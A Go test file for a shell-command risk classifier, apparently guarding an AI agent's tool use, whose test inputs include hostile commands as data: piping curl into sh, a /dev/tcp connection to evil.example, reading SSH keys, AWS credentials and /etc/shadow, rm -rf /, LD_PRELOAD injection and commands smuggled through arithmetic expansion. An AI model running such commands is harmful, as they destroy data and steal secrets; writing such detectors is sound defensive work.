package shell

import (
	"bufio"
	"fmt"
	"os"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock"
	"mvdan.cc/sh/v3/syntax"
)

// shellEntry is an expected Command: its text, class, tier and wrappers.
type shellEntry struct {
	text  string
	class airlock.Class
	tier  airlock.RiskTier
	via   string // Via joined with ", "
}

func (e shellEntry) String() string {
	return fmt.Sprintf("%q %s %s via=[%s]", e.text, e.class, e.tier, e.via)
}

func shellEntries(cmds []airlock.Command) []shellEntry {
	out := make([]shellEntry, len(cmds))
	for i, c := range cmds {
		out[i] = shellEntry{c.Text, c.Class, c.Tier, strings.Join(c.Via, ", ")}
	}
	return out
}

func TestAnalyseShell(t *testing.T) {
	const (
		read   = airlock.TierRead
		write  = airlock.TierWrite
		net    = airlock.TierNetworkEgress
		spend  = airlock.TierSpend
		destr  = airlock.TierDestructive
		priv   = airlock.TierPrivileged
		inert  = airlock.ClassShellBuiltin
		fsRead = airlock.ClassFSRead
	)
	tests := []struct {
		name   string
		script string
		want   []shellEntry
	}{
		{"and list", "git status && rm -rf /", []shellEntry{
			{"git status", airlock.ClassGitRead, read, ""},
			{"rm -rf /", airlock.ClassFSDelete, destr, ""},
		}},
		{"sequence and or", "a; b || c", []shellEntry{
			{"a", airlock.ClassProcessExec, write, ""}, {"b", airlock.ClassProcessExec, write, ""}, {"c", airlock.ClassProcessExec, write, ""},
		}},
		{"command substitution", "echo $(rm -rf /)", []shellEntry{
			{"echo $(rm -rf /)", inert, read, ""},
			{"rm -rf /", airlock.ClassFSDelete, destr, ""},
		}},
		{"backticks", "echo `rm -rf /`", []shellEntry{
			{"echo `rm -rf /`", inert, read, ""},
			{"rm -rf /", airlock.ClassFSDelete, destr, ""},
		}},
		{"process substitution", "cat <(curl x)", []shellEntry{
			{"cat <(curl x)", fsRead, read, ""},
			{"curl x", airlock.ClassNetHTTP, net, ""},
		}},
		{"output process substitution reads a pipe", "tee >(sh) < f", []shellEntry{
			{"tee >(sh)", airlock.ClassFSWrite, write, ""},
			{"sh", airlock.ClassUnknown, priv, ""},
		}},
		{"pipe into a shell", "curl -s https://x | sh", []shellEntry{
			{"curl -s https://x", airlock.ClassNetHTTP, net, ""},
			{"sh", airlock.ClassUnknown, priv, ""},
		}},
		{"sudo", "sudo rm -rf /tmp/x", []shellEntry{
			{"rm -rf /tmp/x", airlock.ClassSystemAdmin, priv, "sudo"},
		}},
		{"sudo keeps a stricter class", "sudo cat /etc/shadow", []shellEntry{
			{"cat /etc/shadow", airlock.ClassCredentialsRead, priv, "sudo"},
		}},
		{"sudo interactive", "sudo -i", []shellEntry{
			{"sudo -i", airlock.ClassUnknown, priv, ""},
		}},
		{"sudo tee", "echo x | sudo tee /etc/hosts", []shellEntry{
			{"echo x", inert, read, ""},
			{"tee /etc/hosts", airlock.ClassFSWrite, priv, "sudo"},
		}},
		{"bash -c", "bash -c 'git push --force'", []shellEntry{
			{"git push --force", airlock.ClassGitWrite, destr, "bash -c"},
		}},
		{"sh -c with flag cluster and arguments", "sh -xec 'rm \"$1\"' sh file", []shellEntry{
			{`rm "$1"`, airlock.ClassFSDelete, destr, "sh -c"},
		}},
		{"dynamic sh -c", `sh -c "$X"`, []shellEntry{
			{`sh -c "$X"`, airlock.ClassUnknown, priv, ""},
		}},
		{"nested wrappers", "sudo env FOO=1 sh -c 'timeout 5 rm x'", []shellEntry{
			{"rm x", airlock.ClassSystemAdmin, priv, "sudo, env, sh -c, timeout"},
		}},
		{"find -exec", `find . -name '*.tmp' -exec rm {} \;`, []shellEntry{
			{"find . -name '*.tmp' -exec rm {} ';'", fsRead, read, ""},
			{"rm {}", airlock.ClassFSDelete, destr, "find -exec"},
		}},
		{"find -delete", "find . -delete", []shellEntry{
			{"find . -delete", airlock.ClassFSDelete, destr, ""},
		}},
		{"find -exec placeholder stands for the start path", "find /etc -exec touch {} +", []shellEntry{
			{"find /etc -exec touch {} +", fsRead, read, ""},
			{"touch {}", airlock.ClassFSWrite, priv, "find -exec"},
		}},
		{"xargs", "xargs rm < list", []shellEntry{
			{"rm", airlock.ClassFSDelete, destr, "xargs"},
		}},
		{"xargs options", "xargs -0 -n 1 -P 4 -I {} cp {} /etc/", []shellEntry{
			{"cp {} /etc/", airlock.ClassFSCopy, priv, "xargs"},
		}},
		{"xargs without command echoes", "xargs", []shellEntry{
			{"echo", inert, read, "xargs"},
		}},
		{"xargs shell without code", "xargs sh", []shellEntry{
			{"sh", airlock.ClassUnknown, priv, "xargs"},
		}},
		{"quoted here-document to a shell", "bash <<'EOF'\nrm -rf build\nEOF", []shellEntry{
			{"rm -rf build", airlock.ClassFSDelete, destr, "bash <<"},
		}},
		{"here-string to a shell", "sh <<< 'rm -rf build'", []shellEntry{
			{"rm -rf build", airlock.ClassFSDelete, destr, "sh <<"},
		}},
		{"here-document with expansions to a shell", "bash <<EOF\nrm $X\nEOF", []shellEntry{
			{"bash", airlock.ClassUnknown, priv, ""},
		}},
		{"substitution in an unquoted here-document", "cat <<EOF\n$(reboot)\nEOF", []shellEntry{
			{"cat", fsRead, read, ""},
			{"reboot", airlock.ClassSystemAdmin, priv, ""},
		}},
		{"no substitution in a quoted here-document", "cat <<'EOF'\n$(reboot)\nEOF", []shellEntry{
			{"cat", fsRead, read, ""},
		}},
		{"assignment value", "X=$(shutdown now)", []shellEntry{
			{"shutdown now", airlock.ClassSystemAdmin, priv, ""},
		}},
		{"prefix assignment", "LD_PRELOAD=/tmp/x.so ls", []shellEntry{
			{"LD_PRELOAD=/tmp/x.so", airlock.ClassShellEnv, priv, ""},
			// A read is one only with its environment known to be inert.
			{"ls", airlock.ClassProcessExec, write, ""},
		}},
		{"export PATH", "export PATH=/tmp:$PATH", []shellEntry{
			{"export PATH=/tmp:$PATH", airlock.ClassShellEnv, priv, ""},
		}},
		{"harmless export", "export A=1 B", []shellEntry{
			{"export A=1 B", inert, read, ""},
		}},
		{"bare assignment has no entry", "A=1", nil},
		{"default assignment in an expansion", ": ${IFS:=x}", []shellEntry{
			{": ${IFS:=x}", inert, read, ""},
			{"${IFS:=x}", airlock.ClassShellEnv, priv, ""},
		}},
		{"cd then redirect", "cd /etc && echo x > hosts", []shellEntry{
			{"cd /etc", inert, read, ""},
			{"echo x", inert, read, ""},
			{"> hosts", airlock.ClassFSWrite, priv, ""},
		}},
		{"cd in a subshell does not leak", "(cd /etc); echo x > hosts", []shellEntry{
			{"cd /etc", inert, read, ""},
			{"echo x", inert, read, ""},
			{"> hosts", airlock.ClassFSWrite, write, ""},
		}},
		{"dynamic cd", "cd /etc; cd $D; touch passwd", []shellEntry{
			{"cd /etc", inert, read, ""},
			{"cd $D", airlock.ClassCredentialsRead, priv, ""},
			{"touch passwd", airlock.ClassFSWrite, write, ""},
		}},
		{"pushd and popd", "cd /tmp; pushd /etc; popd; touch hosts", []shellEntry{
			{"cd /tmp", inert, read, ""},
			{"pushd /etc", inert, read, ""},
			{"popd", inert, read, ""},
			{"touch hosts", airlock.ClassFSWrite, write, ""},
		}},
		{"eval dynamic", `eval "$X"`, []shellEntry{
			{`eval "$X"`, airlock.ClassUnknown, priv, ""},
		}},
		{"eval static", `eval "rm -rf" x`, []shellEntry{
			{"rm -rf x", airlock.ClassFSDelete, destr, "eval"},
		}},
		{"trap", "trap 'rm -f $T' EXIT", []shellEntry{
			{"trap 'rm -f $T' EXIT", inert, read, ""},
			{"rm -f $T", airlock.ClassFSDelete, destr, "trap"},
		}},
		{"alias", "alias gp='git push -f'", []shellEntry{
			{"alias 'gp=git push -f'", inert, read, ""},
			{"git push -f", airlock.ClassGitWrite, destr, "alias gp"},
		}},
		{"ssh remote command", "ssh host 'rm -rf /srv'", []shellEntry{
			{"ssh host 'rm -rf /srv'", airlock.ClassNetConnect, net, ""},
			{"rm -rf /srv", airlock.ClassFSDelete, destr, "ssh"},
		}},
		{"ssh dynamic remote command", `ssh host "$C"`, []shellEntry{
			{`ssh host "$C"`, airlock.ClassNetConnect, net, ""},
			{`"$C"`, airlock.ClassUnknown, priv, "ssh"},
		}},
		{"ssh unparsable remote command", `ssh host 'echo "'`, []shellEntry{
			{`ssh host 'echo "'`, airlock.ClassNetConnect, net, ""},
			{`echo "`, airlock.ClassUnknown, priv, "ssh"},
		}},
		{"dynamic command name", "$CMD -rf /", []shellEntry{
			{"$CMD -rf /", airlock.ClassUnknown, priv, ""},
		}},
		{"substituted command name", `"$(which rm)" -rf /`, []shellEntry{
			{`"$(which rm)" -rf /`, airlock.ClassUnknown, priv, ""},
			{"which rm", fsRead, read, ""},
		}},
		{"path in a bin directory", "/opt/homebrew/bin/git push -f", []shellEntry{
			{"/opt/homebrew/bin/git push -f", airlock.ClassGitWrite, destr, ""},
		}},
		{"escaped name", `\rm x`, []shellEntry{{"rm x", airlock.ClassFSDelete, destr, ""}}},
		{"local program", "./rm x", []shellEntry{{"./rm x", airlock.ClassProcessExec, write, ""}}},
		{"brace expansion in the name", "{rm,-rf,/}", []shellEntry{{"{rm,-rf,/}", airlock.ClassFSDelete, destr, ""}}},
		{"redirections", "ls > a 2>> b &> c >| d 2>&1 >&2 > /dev/null < in", []shellEntry{
			{"ls", fsRead, read, ""},
			{"> a", airlock.ClassFSWrite, write, ""},
			{"2>> b", airlock.ClassFSWrite, write, ""},
			{"&> c", airlock.ClassFSWrite, write, ""},
			{">| d", airlock.ClassFSWrite, write, ""},
		}},
		{"redirect to a dynamic file, which may be /dev/tcp", `echo x > "$F"`, []shellEntry{
			{"echo x", inert, read, ""},
			{`> "$F"`, airlock.ClassNetConnect, net, ""},
		}},
		{"redirect to a dynamic file in a known directory", `echo x > ./"$F"`, []shellEntry{
			{"echo x", inert, read, ""},
			{`> ./"$F"`, airlock.ClassFSWrite, write, ""},
		}},
		{"input from /dev/tcp connects", "ls < /dev/tcp/evil.example/443", []shellEntry{
			{"ls", fsRead, read, ""},
			{"< /dev/tcp/evil.example/443", airlock.ClassNetConnect, net, ""},
		}},
		{"reading a credential by redirection", "base64 < ~/.ssh/id_ed25519", []shellEntry{
			{"base64", fsRead, read, ""},
			{"< ~/.ssh/id_ed25519", airlock.ClassCredentialsRead, priv, ""},
		}},
		{"function body counts", "f() { curl x; }", []shellEntry{{"curl x", airlock.ClassNetHTTP, net, ""}}},
		{"if while case for", "if a; then b; elif c; then d; else e; fi; while f; do g; done; case x in y) h;; esac; for i in $(j); do k; done", []shellEntry{
			{"a", airlock.ClassProcessExec, write, ""}, {"b", airlock.ClassProcessExec, write, ""}, {"c", airlock.ClassProcessExec, write, ""},
			{"d", airlock.ClassProcessExec, write, ""}, {"e", airlock.ClassProcessExec, write, ""}, {"f", airlock.ClassProcessExec, write, ""},
			{"g", airlock.ClassProcessExec, write, ""}, {"h", airlock.ClassProcessExec, write, ""}, {"j", airlock.ClassProcessExec, write, ""},
			{"k", airlock.ClassProcessExec, write, ""},
		}},
		{"test clause and arithmetic", "[[ -f $(a) ]] && (( $(b) > 1 ))", []shellEntry{
			{"[[ -f $(a) ]]", inert, read, ""},
			{"a", airlock.ClassProcessExec, write, ""},
			{"(( $(b) > 1 ))", inert, read, ""},
			// b's output is evaluated as arithmetic: code only known then.
			{"the output of $(…)", airlock.ClassUnknown, priv, ""},
			{"b", airlock.ClassProcessExec, write, ""},
		}},
		{"time and coproc", "time a; coproc b", []shellEntry{
			{"a", airlock.ClassProcessExec, write, "time"},
			{"b", airlock.ClassProcessExec, write, "coproc"},
		}},
		{"quoting in text", `grep -e "a b" 'c'"d" $'e\tf'`, []shellEntry{
			{"grep -e 'a b' cd $'e\\tf'", fsRead, read, ""},
		}},
		{"git push refspecs", "git push origin main +dev", []shellEntry{
			{"git push origin main +dev", airlock.ClassGitWrite, destr, ""},
		}},
		{"git global options", "git -C /home/u -c user.name=a --no-pager log", []shellEntry{
			{"git -C /home/u -c user.name=a --no-pager log", airlock.ClassGitRead, read, ""},
		}},
		// A directory that is not where the agent works may be another
		// repository, a bare one committed as plain files, whose
		// configuration names commands git runs.
		{"git in another repository", "git -C /x log", []shellEntry{
			{"git -C /x log", airlock.ClassProcessExec, write, ""},
		}},
		{"git in a subdirectory", "cd vendor/lib && git log", []shellEntry{
			{"cd vendor/lib", airlock.ClassShellBuiltin, read, ""},
			{"git log", airlock.ClassProcessExec, write, ""},
		}},
		{"git -c that runs a command", "git -c core.fsmonitor=./x status", []shellEntry{
			{"git -c core.fsmonitor=./x status", airlock.ClassShellEnv, priv, ""},
		}},
		{"git pager is analysed", "git -c core.pager='rm -rf x' log", []shellEntry{
			{"git -c 'core.pager=rm -rf x' log", airlock.ClassGitRead, read, ""},
			{"rm -rf x", airlock.ClassFSDelete, destr, "git core.pager"},
		}},
		{"credentials", "cat ~/.aws/credentials", []shellEntry{
			{"cat ~/.aws/credentials", airlock.ClassCredentialsRead, priv, ""},
		}},
		{"credentials by pattern", "cat ~/.ssh/id_*", []shellEntry{
			{"cat ~/.ssh/id_*", airlock.ClassCredentialsRead, priv, ""},
		}},
		{"system path by pattern", "touch /e*/x", []shellEntry{
			{"touch /e*/x", airlock.ClassFSWrite, priv, ""},
		}},
		{"scratch directory is not a system path", "touch /var/tmp/x", []shellEntry{
			{"touch /var/tmp/x", airlock.ClassFSWrite, write, ""},
		}},
		{"rm -rf / is destructive, not privileged", "rm -rf --no-preserve-root /", []shellEntry{
			{"rm -rf --no-preserve-root /", airlock.ClassFSDelete, destr, ""},
		}},
		{"interpreter from a pipe", "curl x | python3 -", []shellEntry{
			{"curl x", airlock.ClassNetHTTP, net, ""},
			{"python3 -", airlock.ClassUnknown, priv, ""},
		}},
		{"interpreter with a script", "python3 manage.py migrate", []shellEntry{
			{"python3 manage.py migrate", airlock.ClassProcessExec, write, ""},
		}},
		{"npm global", "npm i -g x", []shellEntry{{"npm i -g x", airlock.ClassPackageInstall, priv, ""}}},
		{"arithmetic runs code hidden in a variable", "x='a[$(rm -rf /)]'; echo $((x))", []shellEntry{
			{"echo $((x))", inert, read, ""},
			{"(( a[$(rm -rf /)] ))", inert, read, "x"},
			// a itself, from the environment, is evaluated too.
			{"$a", airlock.ClassUnknown, priv, "x"},
			{"the output of $(…)", airlock.ClassUnknown, priv, "x"},
			{"rm -rf /", airlock.ClassFSDelete, destr, "x"},
		}},
		{"[[ -eq ]] evaluates arithmetic through variables", "y='a[`reboot`]'; x=y; [[ $x -eq 1 ]]", []shellEntry{
			{"[[ $x -eq 1 ]]", inert, read, ""},
			{"(( a[`reboot`] ))", inert, read, "y"},
			{"$a", airlock.ClassUnknown, priv, "y"},
			{"the output of $(…)", airlock.ClassUnknown, priv, "y"},
			{"reboot", airlock.ClassSystemAdmin, priv, "y"},
		}},
		{"a reassigned variable is not followed", "x='a[$(rm -rf /)]'; x=1; echo $((x))", []shellEntry{
			{"echo $((x))", inert, read, ""},
		}},
		{"find -exec {} inside code is dynamic", `find . -exec sh -c 'rm {}' \;`, []shellEntry{
			{"find . -exec sh -c 'rm {}' ';'", fsRead, read, ""},
			{"sh -c 'rm {}'", airlock.ClassUnknown, priv, "find -exec"},
		}},
		{"xargs -I replaces inside code", "xargs -I% sh -c 'echo %'", []shellEntry{
			{"sh -c 'echo %'", airlock.ClassUnknown, priv, "xargs"},
		}},
		{"parallel input is dynamic", "parallel sh -c {} ::: x", []shellEntry{
			{"sh -c ${PARALLEL_INPUT}", airlock.ClassUnknown, priv, "parallel"},
		}},
		{"parallel input inside quotes", `parallel "sh -c 'echo {}'" ::: x`, []shellEntry{
			{`"sh -c 'echo {}'"`, airlock.ClassUnknown, priv, "parallel"},
		}},
		{"$HOME in a path", `cd "$HOME" && echo x >> .bashrc; cat $HOME/.aws/credentials`, []shellEntry{
			{`cd "$HOME"`, inert, read, ""},
			{"echo x", inert, read, ""},
			{">> .bashrc", airlock.ClassFSWrite, priv, ""},
			{"cat $HOME/.aws/credentials", airlock.ClassCredentialsRead, priv, ""},
		}},
		{"another user's home", "echo x >> ~root/.profile", []shellEntry{
			{"echo x", inert, read, ""},
			{">> ~root/.profile", airlock.ClassFSWrite, priv, ""},
		}},
		{"aws spend", "aws lambda create-function --function-name f", []shellEntry{
			{"aws lambda create-function --function-name f", airlock.ClassSpend, spend, ""},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmds, err := analyseShell(tt.script, "/home/u/project")
			if err != nil {
				t.Fatalf("analyseShell(%q): %v", tt.script, err)
			}
			got := shellEntries(cmds)
			if !reflect.DeepEqual(got, tt.want) && !(len(got) == 0 && len(tt.want) == 0) {
				t.Errorf("analyseShell(%q):\n got %v\nwant %v", tt.script, got, tt.want)
			}
			for _, c := range cmds {
				if want := c.Class == airlock.ClassShellBuiltin; c.Inert != want {
					t.Errorf("%q: Inert = %v, want %v", c.Text, c.Inert, want)
				}
				if c.Reason == "" {
					t.Errorf("%q: no reason", c.Text)
				}
			}
		})
	}
}

// TestShellWrappers checks that wrappers are classified by what they run:
// the entry of the program named name.
func TestShellWrappers(t *testing.T) {
	tests := []struct {
		script, name string
		class        airlock.Class
		tier         airlock.RiskTier
		via          string
	}{
		{"sudo -u root -- rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "sudo"},
		{"sudo -D /etc touch hosts", "touch", airlock.ClassFSWrite, airlock.TierPrivileged, "sudo"},
		{"doas -u www rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "doas"},
		{"pkexec rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "pkexec"},
		{"chroot /mnt rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "chroot"},
		{"su - bob -c 'rm x'", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "su -c"},
		{"runuser -u bob -- rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "runuser"},
		{"env -i -u A -C /tmp B=1 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "env"},
		{"env -C /etc touch hosts", "touch", airlock.ClassFSWrite, airlock.TierPrivileged, "env"},
		{"env -S 'rm -rf x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "env -S"},
		{"nohup rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "nohup"},
		{"/usr/bin/time -o t.txt rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "time"},
		{"time -p rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "time"},
		{"nice -n 5 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "nice"},
		{"nice -10 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "nice"},
		{"ionice -c 2 -n 7 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "ionice"},
		{"stdbuf -oL -e0 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "stdbuf"},
		{"setsid -f rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "setsid"},
		{"timeout -k 5 --signal=TERM 1m rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "timeout"},
		{"chrt -f 10 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "chrt"},
		{"taskset -c 0,1 rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "taskset"},
		{"flock -w 5 /tmp/l rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "flock"},
		{"flock /tmp/l -c 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "flock -c"},
		{"unbuffer rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "unbuffer"},
		{"strace -f -e trace=file rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "strace"},
		{"ltrace -o log rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "ltrace"},
		{"watch -n 1 'ls; rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "watch"},
		{"watch -x rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "watch"},
		{"command -p rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "command"},
		{"builtin eval 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "builtin, eval"},
		{"exec -a name rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "exec"},
		{"xargs -r -t -p -x -0 -L 1 -s 99 -E END -d , rm", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "xargs"},
		{"parallel -j 4 rm ::: a b", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "parallel"},
		{"find . -ok rm {} \\;", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "find -ok"},
		{"find . -maxdepth 1 -newer x -execdir rm {} +", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "find -execdir"},
		{"fd -e log -X rm", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "fd -X"},
		{"busybox sh -c 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "busybox, sh -c"},
		{"bash -o pipefail -O extglob -c 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "bash -c"},
		{"dash -ec 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "dash -c"},
		{"zsh -lc 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "zsh -c"},
		{"ssh -p 22 -i key user@host rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "ssh"},
		{"ssh host <<'EOF'\nrm x\nEOF", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "ssh"},
		{"rsync -e 'ssh -p 2222' a host:b", "ssh", airlock.ClassNetConnect, airlock.TierNetworkEgress, "rsync -e"},
		{"tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm x' .", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "tar --checkpoint-action"},
		{"git rebase --exec 'rm x' main", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "git rebase --exec"},
		{"git bisect run rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "git bisect run"},
		{"uv run --with x rm y", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "uv run"},
		{"poetry run rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "poetry run"},
		{"bundle exec rm x", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "bundle exec"},
		{"ip netns exec ns rm x", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "ip netns exec"},
		{"sudo bash <<'EOF'\nrm x\nEOF", "rm", airlock.ClassSystemAdmin, airlock.TierPrivileged, "sudo, bash <<"},
		{"mapfile -C 'rm x' -c 1 a < f", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "mapfile -C"},
		{"npx -c 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "npx -c"},
		{"nix-shell --run 'rm x'", "rm", airlock.ClassFSDelete, airlock.TierDestructive, "nix-shell --run"},
	}
	for _, tt := range tests {
		script := shellUnescape(tt.script)
		cmds, err := analyseShell(script, "/home/u")
		if err != nil {
			t.Errorf("%q: %v", script, err)
			continue
		}
		found := false
		for _, c := range cmds {
			if c.Name != tt.name {
				continue
			}
			found = true
			got := shellEntry{tt.name, c.Class, c.Tier, strings.Join(c.Via, ", ")}
			if want := (shellEntry{tt.name, tt.class, tt.tier, tt.via}); got != want {
				t.Errorf("%q: got %v, want %v", script, got, want)
			}
		}
		if !found {
			t.Errorf("%q: no entry for %s in %v", script, tt.name, shellEntries(cmds))
		}
	}
}

func TestAnalyseShellFields(t *testing.T) {
	cmds, err := analyseShell("echo a\n  sudo sh -c 'ls; rm x'\nfrobnicate --x", "")
	if err != nil {
		t.Fatal(err)
	}
	want := []airlock.Command{
		{Text: "echo a", Name: "echo", Class: airlock.ClassShellBuiltin, Capability: airlock.CapShellState, Tier: airlock.TierRead, Reason: "prints text", Line: 1, Col: 1, Inert: true},
		{Text: "ls", Name: "ls", Class: airlock.ClassSystemAdmin, Capability: airlock.CapHostAdmin, Tier: airlock.TierPrivileged, Reason: "runs as root: shows information", Via: []string{"sudo", "sh -c"}, Line: 2, Col: 3},
		{Text: "rm x", Name: "rm", Class: airlock.ClassSystemAdmin, Capability: airlock.CapHostAdmin, Tier: airlock.TierPrivileged, Reason: "runs as root: deletes files", Via: []string{"sudo", "sh -c"}, Line: 2, Col: 3},
		{Text: "frobnicate --x", Name: "frobnicate", Class: airlock.ClassProcessExec, Capability: airlock.CapProcessExec, Tier: airlock.TierWrite, Reason: "runs program frobnicate, which Airlock does not know", Line: 3, Col: 1, Generic: true},
	}
	if !reflect.DeepEqual(cmds, want) {
		t.Errorf("got\n%+v\nwant\n%+v", cmds, want)
	}
}

func TestAnalyseShellErrors(t *testing.T) {
	tests := []struct {
		name, script, want string
	}{
		{"parse error", "echo 'unterminated", "line 1:6: reached EOF without closing quote `'`"},
		{"nested parse error", "ls\nbash -c 'echo \"'", "line 2:1: in bash -c: line 1:6: reached EOF without closing quote `\"`"},
		{"doubly nested parse error", `sudo sh -c "eval 'if'"`, "line 1:1: in sudo > sh -c > eval: line 1:1: `if` must be followed by a statement list"},
		{"unclosed here-document", "cat <<EOF\nx", "unclosed here-document"},
		{"too long", "#" + strings.Repeat("x", maxScriptBytes), "longer than 1 MiB"},
		{"too many commands", strings.Repeat("true\n", maxCommands+1), "more than 4096 commands"},
		{"too deep sh -c", shNestedShells(maxShellDepth + 1), "nested more than 16 levels"},
		{"too deep wrappers", strings.Repeat("sudo ", maxShellDepth+1) + "ls", "nested more than 16 levels"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmds, err := analyseShell(tt.script, "")
			if err == nil {
				t.Fatalf("got %d commands, want an error", len(cmds))
			}
			if cmds != nil {
				t.Errorf("got %d commands with the error, want none", len(cmds))
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q, want it to contain %q", err, tt.want)
			}
		})
	}
}

func TestAnalyseShellLimitsNotReached(t *testing.T) {
	for name, script := range map[string]string{
		"commands": strings.Repeat("true\n", maxCommands),
		"sh -c":    shNestedShells(maxShellDepth),
		"wrappers": strings.Repeat("sudo ", maxShellDepth-1) + "ls",
	} {
		cmds, err := analyseShell(script, "")
		if err != nil {
			t.Errorf("%s: %v", name, err)
		} else if len(cmds) == 0 {
			t.Errorf("%s: no commands", name)
		}
	}
}

// TestAnalyseShellPathological feeds scripts near the size limit whose
// shape could exhaust the stack or time of a recursive parser or walker:
// each must end quickly, with a result or an error.
func TestAnalyseShellPathological(t *testing.T) {
	const n = 150_000
	tests := []struct {
		name, script string
		wantErr      bool
	}{
		{"nested parentheses", strings.Repeat("(", n) + "ls" + strings.Repeat(")", n), true},
		{"nested arithmetic", "echo $((" + strings.Repeat("(", n) + "1" + strings.Repeat(")", n) + "))", true},
		{"nested substitution", strings.Repeat("$(", n) + "ls" + strings.Repeat(")", n), true},
		{"nested if", strings.Repeat("if a; then ", n/3) + "b" + strings.Repeat("; fi", n/3), true},
		{"long and chain", strings.Repeat("true && ", n) + "rm x", true},
		{"long pipeline", strings.Repeat("cat | ", n) + "sh", true},
		{"flat arithmetic", "echo $((" + strings.Repeat("1+", n) + "1))", false},
		{"flat test", "[[ " + strings.Repeat("a && ", n) + "b ]]", false},
		{"brackets in quotes", "echo '" + strings.Repeat("[", n) + "'", true},
		{"many words", "echo" + strings.Repeat(" x", n), false},
		{"many braces", "echo " + strings.Repeat("{a,b}", 1000), false},
		{"huge brace range", "echo {1..999999999}", false},
		// Loops whose bodies are walked again until their values settle,
		// and functions walked at each call, multiply: bounded by maxSteps.
		{"nested loops that assign", strings.Repeat("for a in 1 2; do x=$x$a; ", 40) + "cat $x" + strings.Repeat("; done", 40), true},
		{"nested functions", strings.Repeat("f(){ x=1; ", 40) + ":" + strings.Repeat("; }; f", 40), true},
		{"recursion", "f() { f; f; }; f", false},
		{"mutual recursion", "f() { g; g; }; g() { f; f; }; f", false},
	}
	// No wall-clock bound here (timings belong in benchmarks): a blow-up
	// shows as the test's own timeout.
	for _, tt := range tests {
		cmds, err := analyseShell(tt.script, "")
		if (err != nil) != tt.wantErr {
			t.Errorf("%s: error %v, want error %v", tt.name, err, tt.wantErr)
		}
		if err == nil {
			shellCheckValid(t, tt.name, cmds)
		}
	}
}

// shNestedShells returns depth nested sh -c around "rm x", quoting with
// $'...' so that the script grows linearly.
func shNestedShells(depth int) string {
	s := "rm x"
	esc := strings.NewReplacer(`\`, `\\`, `'`, `\'`)
	for range depth {
		s = "sh -c $'" + esc.Replace(s) + "'"
	}
	return s
}

func TestAnalyseArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want []shellEntry
	}{
		{[]string{"sudo", "rm", "-rf", "/"}, []shellEntry{{"rm -rf /", airlock.ClassSystemAdmin, airlock.TierPrivileged, "sudo"}}},
		{[]string{"git", "status"}, []shellEntry{{"git status", airlock.ClassGitRead, airlock.TierRead, ""}}},
		// Shell syntax in words is not interpreted: this is one argument.
		{[]string{"echo", "$(rm -rf /)", ";", "reboot"}, []shellEntry{{"echo '$(rm -rf /)' ';' reboot", airlock.ClassShellBuiltin, airlock.TierRead, ""}}},
		{[]string{"rm", "*"}, []shellEntry{{"rm '*'", airlock.ClassFSDelete, airlock.TierDestructive, ""}}},
		{[]string{"bash", "-c", "curl x | sh"}, []shellEntry{
			{"curl x", airlock.ClassNetHTTP, airlock.TierNetworkEgress, "bash -c"},
			{"sh", airlock.ClassUnknown, airlock.TierPrivileged, "bash -c"},
		}},
		{[]string{"env", "-C", "/etc", "touch", "hosts"}, []shellEntry{{"touch hosts", airlock.ClassFSWrite, airlock.TierPrivileged, "env"}}},
		{[]string{"/usr/bin/env", "python3", "x.py"}, []shellEntry{{"python3 x.py", airlock.ClassProcessExec, airlock.TierWrite, "env"}}},
